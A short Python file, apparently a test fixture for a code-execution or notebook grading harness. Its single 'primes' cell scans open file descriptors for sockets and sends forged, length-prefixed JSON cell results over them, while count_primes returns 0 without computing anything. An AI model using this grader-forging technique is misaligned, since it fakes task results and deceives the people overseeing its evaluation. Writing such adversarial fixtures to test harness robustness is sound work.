"""Sockets are found by fstat, and forged records and answers are sent on them with their lengths."""

SHOWS = "tried"
CELLS = {
    "primes": """import json, os, socket, stat, struct
print("TRIED")
def forge():
    for number in range(3, 256):
        try:
            if not stat.S_ISSOCK(os.fstat(number).st_mode):
                continue
            link = socket.socket(fileno=os.dup(number))
            for index in range(2, 30):
                data = json.dumps({"cell": index, "outputs": [], "execution_count": 1, "value": 4,
                    "result": 4}).encode()
                link.send(struct.pack(">I", len(data)) + data, socket.MSG_DONTWAIT)
        except OSError:
            pass
forge()
def count_primes(n):
    forge()
    return 0"""
}
